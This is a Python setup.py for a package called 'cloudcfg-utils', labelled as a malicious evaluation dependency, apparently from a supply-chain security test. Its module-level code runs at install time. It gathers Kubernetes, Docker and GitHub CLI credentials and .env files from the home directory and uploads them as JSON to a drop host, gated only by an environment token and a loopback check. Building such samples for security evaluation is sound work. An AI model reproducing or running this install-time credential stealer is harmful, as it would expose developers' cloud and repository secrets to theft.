# Evaluation dependency (malicious): pulled in by
# malicious/cloud-config-stealer through install_requires.  Module-level
# code collects Kubernetes, Docker and GitHub CLI credentials and .env files
# under the home directory and uploads them, as JSON, to a file-drop site.
# Acts only inside the evaluation: SP_TOKEN set, the drop host resolving to
# loopback.
import glob
import json
import os
import socket
import urllib.request

from setuptools import setup

_WANTED = ("~/.kube/config", "~/.docker/config.json", "~/.config/gh/hosts.yml", "~/*/.env", "~/.env")


def _upload():
    host = os.environ.get("SP_DROP_HOST")
    if not os.environ.get("SP_TOKEN") or not host:
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
    except OSError:
        return
    loot = {}
    for pattern in _WANTED:
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    loot[path] = f.read(1 << 20)
            except OSError:
                pass
    req = urllib.request.Request("http://%s:%s/upload/%s.json" % (host, os.environ.get("SP_HTTP_PORT", "80"),
                                                                  socket.gethostname()),
                                 json.dumps(loot).encode(), method="PUT")
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except OSError:
        pass


_upload()

setup(name="cloudcfg-utils", version="1.0.3", py_modules=["cloudcfg"])
